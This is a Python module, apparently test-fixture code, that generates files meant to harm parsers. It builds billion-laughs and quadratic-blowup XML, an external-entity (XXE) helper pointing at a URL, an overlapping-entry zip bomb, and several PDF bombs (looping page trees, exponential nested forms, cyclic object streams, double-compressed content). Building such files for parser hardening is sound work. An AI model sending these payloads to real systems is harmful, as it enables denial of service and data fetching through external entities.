"""Files made to harm whoever parses them: small on disk, endless or enormous inside."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Sequence

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
LAUGHS = (  # https://en.wikipedia.org/wiki/Billion_laughs_attack
    '<!DOCTYPE d [<!ENTITY a "lol">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(9))
    + "]>"
)
QUADRATIC = f'<!DOCTYPE d [<!ENTITY j "{"lol" * 50_000}">]>'


def external(url: str) -> str:
    """Declare the entity `j` as what stands under a URL, and a DTD to be read from there."""
    return f'<!DOCTYPE d SYSTEM "{url}" [<!ENTITY j SYSTEM "{url}"><!ENTITY % p SYSTEM "{url}"> %p;]>'


def word_xml(body: str, *, dtd: str = "") -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8"?>{dtd}<w:document {W}><w:body>{body}</w:body></w:document>'.encode()


def word_paragraph(words: str) -> str:
    return f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"


def with_entries(data: bytes, entries: Sequence[tuple[str, bytes]]) -> bytes:
    """Add entries to an archive, names that are there already included."""
    stream = io.BytesIO(data)
    with zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries:
            archive.writestr(zipfile.ZipInfo(name), content, compress_type=zipfile.ZIP_DEFLATED)
    return stream.getvalue()


def overlapping(data: bytes, *, copies: int) -> bytes:
    """List the largest entry of an archive under many more names (after https://www.bamsoftware.com/hacks/zipbomb/)."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        entries = archive.infolist()
    kernel = max(entries, key=lambda entry: entry.file_size)
    end = data.rindex(b"PK\x05\x06")
    count, size, start = struct.unpack_from("<HLL", data, end + 10)
    directory = data[start : start + size]
    for number in range(copies):
        name = f"word/media/{number}.bin".encode()
        directory += struct.pack(
            *("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, zipfile.ZIP_DEFLATED, 0, 0x21, kernel.CRC, kernel.compress_size),
            *(kernel.file_size, len(name), 0, 0, 0, 0, 0, kernel.header_offset),
        )
        directory += name
    count += copies
    return (
        data[:start] + directory + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(directory), start, 0)
    )


def raw_pdf(objects: Sequence[bytes], *, trailer: bytes = b"/Root 1 0 R") -> bytes:
    """Write a PDF of these objects, numbered from 1."""
    out, places = b"%PDF-1.5\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    head = b"xref\n0 %d\n0000000000 65535 f \n" % size
    return out + head + table + b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, len(out))


def stream_object(content: bytes, *, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), extra, content)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def one_page(content: bytes, *more: bytes, resources: bytes = b"/Font << /F 5 0 R >>") -> list[bytes]:
    """The objects of a PDF of one page; `more` get the numbers from 6."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Contents 4 0 R /Resources << %s >> >>" % resources
    return [CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, content, FONT, *more]


def looping_tree() -> bytes:
    """A page tree whose nodes are each other's children."""
    node = b"<< /Type /Pages /Kids [%s] /Count 1000000 >>"
    return raw_pdf([CATALOG, node % b"3 0 R 3 0 R", node % b"2 0 R 2 0 R"])


def million_pages() -> bytes:
    """One page that says it is a million."""
    blank = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    return raw_pdf([CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>", blank])


def form_tree(depth: int) -> bytes:
    """A drawing that holds another one twice, and so on: 2 to the power of `depth` texts."""
    resources = b"<< /XObject << /X %d 0 R >> /Font << /F 5 0 R >> >>"
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 99 99] /Resources " + resources
    forms = [stream_object(b"/X Do /X Do", extra=form % (7 + level)) for level in range(depth)]
    forms.append(stream_object(b"BT /F 9 Tf (x) Tj ET", extra=form % 6))
    return raw_pdf(one_page(stream_object(b"/X Do"), *forms, resources=b"/XObject << /X 6 0 R >>"))


def looping_objects() -> bytes:
    """A cross-reference stream that says of object streams that each is stored in the other."""
    entries = bytes([0, 0, 0]) + b"".join(bytes([2, holder, 0]) for holder in (3, 3, 4, 3))
    packed = zlib.compress(entries)
    extra = b"/Type /XRef /Size 5 /W [1 1 1] /Root 1 0 R /Filter /FlateDecode"
    body = b"%PDF-1.5\n"
    return body + b"5 0 obj\n" + stream_object(packed, extra=extra) + b"\nendobj\nstartxref\n%d\n%%%%EOF" % len(body)


def flate_bomb(size: int) -> bytes:
    """A page whose contents unpack, twice, to `size` bytes of text drawn over and over."""
    line = b"BT /F 9 Tf (x) Tj ET\n"
    packed = zlib.compress(zlib.compress(line * (size // len(line)), 9), 9)
    return raw_pdf(one_page(stream_object(packed, extra=b"/Filter [/FlateDecode /FlateDecode]")))
